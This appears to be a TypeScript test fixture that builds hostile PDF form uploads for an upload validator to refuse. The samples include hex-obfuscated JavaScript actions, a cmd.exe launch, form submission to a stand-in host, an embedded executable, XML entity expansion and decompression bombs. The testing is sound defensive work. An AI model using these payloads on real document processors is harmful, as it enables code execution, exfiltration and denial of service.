import { deflateSync } from "node:zlib";
import { field, rawPdf, SMALL_FORM, stream, type RawObjects } from "./raw-form.ts";

/** A file that somebody uploads as a form, and the words with which it is refused; null where it is made harmless. */
export type HostileForm = { name: string; bytes(): Buffer; refused: RegExp | null };

const ACTS = /a script, a link or another action/;
const ATTACHED = /files attached/;
const DAMAGED = /damaged/;
/** It is ended by a limit of the sandbox, or found to be wrong before. */
const ENDED = /damaged|takes too long|more memory/;

const form = (objects: RawObjects, trailer?: string): Buffer => rawPdf({ ...SMALL_FORM, ...objects }, trailer);
const catalog = (more: string, acroForm = "<< /Fields [4 0 R] /DA (/Helv 0 Tf 0 g) >>"): string =>
  `<< /Type /Catalog /Pages 2 0 R /AcroForm ${acroForm} ${more} >>`;
const acts = (name: string, objects: RawObjects): HostileForm => ({ name, bytes: () => form(objects), refused: ACTS });
const damaged = (name: string, bytes: () => Buffer): HostileForm => ({ name, bytes, refused: DAMAGED });
const MANY = 100_000;
const numbers = (count: number): number[] => Array.from({ length: count }, (_, at) => at);
const zeros = (megabytes: number): Buffer => deflateSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 9 });

/** What acts by itself: scripts, launches, links, in whatever place and however its name is written. */
const ACTING: readonly HostileForm[] = [
  acts("a script on opening", { 1: catalog("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>") }),
  acts("a script whose name is written in hex", { 1: catalog("/OpenAction << /S /J#61vaScript /J#53 (x) >>") }),
  acts("a script in a stream", {
    1: catalog("/OpenAction << /S /JavaScript /JS 9 0 R >>"),
    9: stream("", Buffer.from("this.submitForm('http://x.example')")),
  }),
  acts("a script by name", {
    1: catalog("/Names << /JavaScript << /Names [(a) 9 0 R] >> >>"),
    9: "<< /S /JavaScript /JS (x) >>",
  }),
  acts("a script on each keystroke", { 4: field("(Holder)", "/AA << /K << /S /JavaScript /JS (x) >> >>") }),
  acts("a script behind another action", {
    4: field("(Holder)", "/A << /S /Named /N /NextPage /Next [<< /S /JavaScript /JS (x) >>] >>"),
  }),
  acts("a script of the page", {
    3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] /AA << /O 9 0 R >> >>",
    9: "<< /S /JavaScript /JS (x) >>",
  }),
  acts("a script in a packed object", {
    9: stream("/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode", deflateSync("10 0 << /S /JavaScript /JS (x) >>")),
  }),
  acts("a program that is launched", { 1: catalog("/OpenAction << /S /Launch /F (cmd.exe) >>") }),
  acts("a button that sends the form away", { 4: field("(Holder)", "/A << /S /SubmitForm /F (http://x.example) >>") }),
  acts("a button that imports data", { 4: field("(Holder)", "/A << /S /ImportData /F (//x.example/a.fdf) >>") }),
  acts("a link", { 4: field("(Holder)", "/A << /S /URI /URI (http://x.example) >>") }),
  acts("a jump into another file", { 4: field("(Holder)", "/A << /S /GoToR /F (//x.example/a.pdf) /D [0 /Fit] >>") }),
  acts("a jump into an embedded file", { 4: field("(Holder)", "/A << /S /GoToE /D [0 /Fit] /T << /R /C >> >>") }),
  acts("a film", { 4: field("(Holder)", "/A << /S /Rendition /R << >> >>") }),
];

/** What carries something else along. */
const CARRYING: readonly HostileForm[] = [
  {
    name: "an embedded file",
    bytes: () =>
      form({
        1: catalog("/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>"),
        9: "<< /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>",
        10: stream("/Type /EmbeddedFile", Buffer.from("MZ")),
      }),
    refused: ATTACHED,
  },
  {
    name: "a file attached to a page",
    bytes: () =>
      form({
        3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R 9 0 R] >>",
        9: "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.js) /EF << /F 10 0 R >> >> >>",
        10: stream("/Type /EmbeddedFile", Buffer.from("WScript")),
      }),
    refused: ATTACHED,
  },
  {
    name: "a rich media annotation",
    bytes: () =>
      form({
        3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R 9 0 R] >>",
        9: "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << >> >> >>",
      }),
    refused: ATTACHED,
  },
  {
    name: "an XFA form",
    bytes: () =>
      form({ 1: catalog("", "<< /Fields [4 0 R] /XFA [(template) 9 0 R] >>"), 9: stream("", Buffer.from("<x/>")) }),
    refused: /XFA form/,
  },
  {
    name: "an XFA form with entities that grow",
    bytes: () =>
      form({
        1: catalog("", "<< /Fields [4 0 R] /XFA 9 0 R >>"),
        9: stream("", Buffer.from('<!DOCTYPE a [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>')),
      }),
    refused: /XFA form/,
  },
  {
    name: "metadata and notes of other programs",
    bytes: () =>
      form({ 1: catalog("/Metadata 9 0 R /PieceInfo << /X << >> >> /Collection << >>"), 9: stream("", zeros(1)) }),
    refused: null,
  },
];

/** What is too much: of fields, of pages, of depth, of bytes once unpacked. */
const EXCESSIVE: readonly HostileForm[] = [
  {
    name: "100,000 fields",
    bytes: () =>
      form({
        1: catalog(
          "",
          `<< /Fields [${numbers(MANY)
            .map((at) => `${at + 10} 0 R`)
            .join(" ")}] >>`,
        ),
        ...Object.fromEntries(numbers(MANY).map((at) => [at + 10, field(`(f${at})`)])),
      }),
    refused: /more than 2000 fields|takes too long/,
  },
  {
    name: "fields 5,000 deep",
    bytes: () =>
      form({
        1: catalog("", "<< /Fields [10 0 R] >>"),
        ...Object.fromEntries(numbers(5_000).map((at) => [at + 10, `<< /T (d) /Kids [${at + 11} 0 R] >>`])),
        5010: field("(Holder)", "/Parent 5009 0 R"),
      }),
    refused: /too long a name|damaged/,
  },
  {
    name: "10,000 pages",
    bytes: () =>
      form({
        2: `<< /Type /Pages /Kids [${numbers(10_000)
          .map((at) => `${at + 10} 0 R`)
          .join(" ")}] /Count 10000 >>`,
        ...Object.fromEntries(
          numbers(10_000).map((at) => [at + 10, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"]),
        ),
      }),
    refused: /more than 10 pages|damaged/,
  },
  {
    name: "arrays 50,000 deep",
    bytes: () => form({ 9: `${"[".repeat(50_000)}${"]".repeat(50_000)}` }),
    refused: DAMAGED,
  },
  {
    name: "a packed object of 256 megabytes",
    bytes: () => form({ 9: stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zeros(256)) }),
    refused: ENDED,
  },
  {
    name: "packed objects packed eight times",
    bytes: () => {
      let bytes = Buffer.from(deflateSync(Buffer.alloc(64 * 1024 * 1024)));
      for (let nth = 0; nth < 7; nth += 1) bytes = Buffer.from(deflateSync(bytes));
      const filters =
        "[/FlateDecode /FlateDecode /FlateDecode /FlateDecode /FlateDecode /FlateDecode /FlateDecode /FlateDecode]";
      return form({ 9: stream(`/Type /ObjStm /N 1 /First 4 /Filter ${filters}`, bytes) });
    },
    refused: ENDED,
  },
  {
    name: "an appearance of 256 megabytes",
    bytes: () =>
      form({
        4: field("(Holder)", "/AP << /N 9 0 R >>"),
        9: stream("/Subtype /Form /BBox [0 0 9 9] /Filter /FlateDecode", zeros(256)),
      }),
    refused: null,
  },
  {
    name: "a field whose name is 100,000 letters",
    bytes: () => form({ 4: field(`(${"n".repeat(MANY)})`) }),
    refused: /too long a name/,
  },
];

/** What is not what it says. */
const WRONG: readonly HostileForm[] = [
  damaged("pages that contain themselves", () =>
    form({ 2: "<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>" }),
  ),
  damaged("fields that contain each other", () =>
    form({
      1: catalog("", "<< /Fields [10 0 R] >>"),
      10: "<< /T (a) /Kids [11 0 R] >>",
      11: "<< /T (b) /Parent 10 0 R /Kids [10 0 R] >>",
    }),
  ),
  damaged("a parent that is its child", () => form({ 4: field("(Holder)", "/Parent 4 0 R") })),
  damaged("a catalog that is a number", () => form({ 1: "7" })),
  {
    name: "fields that are a name",
    bytes: () => form({ 1: catalog("", "<< /Fields /None >>") }),
    refused: /no fields to fill/,
  },
  damaged("a rectangle of words", () => form({ 4: field("(Holder)", "", "[(a) (b) /c null]") })),
  damaged("a rectangle beyond all numbers", () => form({ 4: field("(Holder)", "", `[0 0 1${"0".repeat(400)} 9]`) })),
  damaged("a rectangle of nothing", () => form({ 4: field("(Holder)", "", "7") })),
  {
    name: "a name with control characters",
    bytes: () => form({ 4: field(String.raw`(Hol\000der\012)`) }),
    refused: /name that cannot be read/,
  },
  { name: "a name of half a character", bytes: () => form({ 4: field("<FEFF0048D800>") }), refused: null },
  damaged("a script in an object that only other programs can read", () =>
    form({ 9: "<< /S /JavaScript /JS (x) /Broken << >>" }),
  ),
  {
    name: "a label with control characters",
    bytes: () => form({ 4: field("(Holder)", String.raw`/TU (a\000b\033)`) }),
    refused: null,
  },
  {
    name: "a protected form",
    bytes: () =>
      form({ 9: "<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>" }, "/Encrypt 9 0 R /ID [<00> <00>]"),
    refused: /protected/,
  },
  {
    name: "no form at all",
    bytes: () => form({ 1: "<< /Type /Catalog /Pages 2 0 R >>" }),
    refused: /no fields to fill/,
  },
  damaged("a file of another kind", () => Buffer.from("MZ\u0090\u0000this program cannot be run as a form")),
  damaged("a file that breaks off", () => form({}).subarray(0, 60)),
];

export const HOSTILE_FORMS: readonly HostileForm[] = [...ACTING, ...CARRYING, ...EXCESSIVE, ...WRONG];
